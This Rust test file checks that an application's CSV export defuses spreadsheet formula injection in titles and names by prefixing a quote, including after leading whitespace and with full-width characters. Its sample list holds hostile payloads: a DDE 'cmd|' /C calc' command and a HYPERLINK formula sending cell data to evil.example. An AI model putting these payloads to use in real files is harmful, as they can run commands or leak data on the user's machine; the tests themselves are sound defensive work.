//! What a spreadsheet must not take for a formula.

use diesel::prelude::*;
use proptest::prelude::*;
use proptest::strategy::ValueTree;
use rapport::db::Intent;
use rapport::db::schema::engagements;

use super::{Table, engage, export};
use crate::support::{TestApp, json, wait};

const FORMULAS: &[&str] = &[
    "=1+1",
    "+1",
    "-1+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "=HYPERLINK(\"https://evil.example?\"&A1,\"Click\")",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
];
const HARMLESS: &[&str] = &["1+1", "a=b", "mail@people.example", "'=1", "(-1)", "–1", "1-1", "\u{200b}x"];

#[test]
fn c43_formulas_are_defused_in_titles_and_names() {
    let app = TestApp::start();
    let admin = app.admin();
    let (coach, coachee) = app.coach_and_coachee();
    for title in FORMULAS.iter().chain(HARMLESS) {
        engage(&admin, title, &coach, &[&coachee]);
    }
    let table = export(&admin, "");
    let defused: Vec<_> = FORMULAS.iter().map(|title| format!("'{title}")).collect();
    assert_eq!(table.column("title")[..FORMULAS.len()], defused);
    assert_eq!(table.column("title")[FORMULAS.len()..], *HARMLESS);
    for name in FORMULAS {
        admin.patch(&format!("/users/{}", coach.id), json!({"name": name})).expect(200);
        admin.patch(&format!("/users/{}", coachee.id), json!({"name": name})).expect(200);
        let table = export(&admin, "");
        assert_eq!((table.column("coach_name")[0], table.column("coachee_names")[0]), (&*format!("'{name}"), &*format!("'{name}")));
    }
}

/// Exports engagements with exactly these titles, which the API would trim.
fn round_trip(app: &TestApp, texts: &[String]) -> Vec<String> {
    let (coach, coachee) = app.coach_and_coachee();
    let admin = app.admin();
    let ids: Vec<_> = texts.iter().map(|_| engage(&admin, "A title", &coach, &[&coachee])).collect();
    let rows: Vec<(String, String)> = ids.into_iter().zip(texts.iter().cloned()).collect();
    wait(app.db().write(Intent::system(), move |tx| {
        for (id, title) in &rows {
            let id: rapport::kernel::ids::EngagementId = id.parse().unwrap();
            diesel::update(engagements::table.find(id)).set(engagements::title.eq(title)).execute(tx.conn())?;
        }
        Ok(())
    }))
    .unwrap();
    let bytes = coach.get("/engagements/export.csv").expect(200).bytes;
    Table::read(&bytes).column("title").into_iter().map(str::to_owned).collect()
}

#[test]
fn c43_formulas_are_defused_after_spaces_tabs_and_returns_and_numbers_are_left_alone() {
    let app = TestApp::start();
    let dangerous = ["\t=1", "\r=1", "  =1", "\u{a0}@x", "\u{3000}＝1", " \t+1", "\tx", "\rx", "   -1"].map(str::to_owned);
    let expected = dangerous.clone().map(|text| format!("'{text}"));
    assert_eq!(round_trip(&app, &dangerous), expected);
    let table = export(&app.admin(), "");
    assert!(table.column("items_total").iter().all(|count| *count == "0"));
    assert!(table.column("created_at").iter().all(|at| at.starts_with("2026-")));
}

#[test]
fn c43_any_text_comes_back_apart_from_the_quote_that_defuses_it() {
    let app = TestApp::start();
    let text = proptest::collection::vec(
        prop_oneof![any::<char>(), proptest::sample::select("=+-@\t\r\n ,;\"'＝＠aé".chars().collect::<Vec<_>>())],
        0..12,
    );
    // PostgreSQL keeps no NUL, and the API takes none.
    let text = text.prop_map(|chars| chars.into_iter().filter(|c| *c != '\0').collect::<String>());
    let texts = proptest::collection::vec(text, 150);
    let mut runner = proptest::test_runner::TestRunner::deterministic();
    let texts = texts.new_tree(&mut runner).unwrap().current();
    for (text, back) in texts.iter().zip(round_trip(&app, &texts)) {
        let spreadsheet_sees = back.trim_start().chars().next();
        if &back != text {
            assert_eq!(back, format!("'{text}"));
        }
        assert!(!spreadsheet_sees.is_some_and(|first| "=+-@＝＋－＠".contains(first)), "{back:?}");
    }
}
